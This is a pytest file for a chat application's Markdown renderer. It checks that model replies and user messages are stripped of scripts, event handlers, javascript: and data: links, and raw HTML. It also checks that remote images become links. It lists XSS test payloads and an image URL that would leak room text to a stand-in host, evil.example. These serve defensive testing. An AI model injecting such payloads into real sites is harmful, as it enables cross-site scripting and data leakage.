"""Rendered Markdown is sanitised: no script, no event handlers, no javascript: links, no raw HTML."""

from collections.abc import Callable
from html.parser import HTMLParser

import pytest

from collab.chat.markup import render_markdown, render_user_markdown

DANGEROUS = pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "![x](javascript:alert(1))",
        '<a href="javascript:alert(1)">x</a>',
        "<iframe src=//evil.example></iframe>",
        '<div onclick="alert(1)">hi</div>',
        "<style>body{display:none}</style>",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    ],
)


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    return parser.found


@DANGEROUS
@pytest.mark.parametrize("render", [render_markdown, render_user_markdown], ids=["reply", "user"])
def test_dangerous_input_is_neutralised(source: str, render: Callable[[str], str]) -> None:
    for tag, attrs in elements(render(source)):
        assert tag not in {"script", "iframe", "style", "div", "object", "embed"}, tag
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        for name in ("href", "src"):
            value = (attrs.get(name) or "").strip().lower()
            assert not value.startswith(("javascript:", "data:", "vbscript:")), (tag, attrs)


def test_raw_html_is_shown_as_text() -> None:
    html = render_markdown("<b>bold?</b> <img src=x onerror=alert(1)>")
    assert "<b>" not in html and "&lt;b&gt;" in html
    assert "<img" not in html


def test_markdown_renders() -> None:
    html = render_markdown("# Title\n\n**bold** and `code` and [link](https://example.com)\n\n- a\n- b")
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert "<code>code</code>" in html
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">link</a>' in html
    assert "<li>a</li>" in html


def test_code_is_highlighted_and_kept_safe() -> None:
    html = render_markdown('```python\nprint("<script>")\n```')
    assert '<span class="nb">print</span>' in html
    assert "<script>" not in html and "&lt;script&gt;" in html


def test_unknown_language_is_escaped_plain() -> None:
    html = render_markdown("```nosuchlang\n<b>x</b>\n```")
    assert "&lt;b&gt;x&lt;/b&gt;" in html


@pytest.mark.parametrize(
    "src", ["https://evil.example/x.png?leak=room+text", "http://evil.example/a.png", "//evil.example/b.png"]
)
def test_a_remote_image_is_a_link_never_loaded(src: str) -> None:
    """No third-party request without a click: a remote image would be a beacon."""
    out = render_markdown(f"look ![the chart]({src})")
    assert "<img" not in out
    assert 'href="' in out and "the chart</a>" in out


def test_an_image_from_this_site_is_shown() -> None:
    out = render_markdown("![logo](/static/collab/logo.png)")
    assert '<img src="/static/collab/logo.png" alt="logo">' in out


def test_a_persons_line_breaks_are_kept() -> None:
    """Shift+Enter in the message box: each line shows on a line of its own."""
    html = render_user_markdown("first line\nsecond line\nthird with **bold**\n\nnext paragraph")
    assert html == "<p>first line<br>\nsecond line<br>\nthird with <strong>bold</strong></p>\n<p>next paragraph</p>\n"


def test_a_persons_code_block_is_code_without_breaks() -> None:
    html = render_user_markdown("look:\n```python\nx = 1\ny = 2\n```\nafter\nthat")
    before, rest = html.split("<pre>")
    code, after = rest.split("</pre>")
    assert before == "<p>look:</p>\n"  # a fence ends the paragraph
    assert "<br>" not in code and "\n" in code  # code is code
    assert after == "\n<p>after<br>\nthat</p>\n"


def test_a_replys_single_newlines_stay_soft() -> None:
    """A model's Markdown keeps the usual rule: a single newline is a space, not a break."""
    assert "<br>" not in render_markdown("first line\nsecond line")
    assert render_markdown("first line\nsecond line") == "<p>first line\nsecond line</p>\n"


def test_a_persons_message_is_sanitised_like_a_reply() -> None:
    html = render_user_markdown("<b>x</b>\n[a](javascript:alert(1))\n![i](https://evil.example/i.png)")
    assert "<b>" not in html and "&lt;b&gt;" in html
    assert 'href="javascript' not in html and "<img" not in html
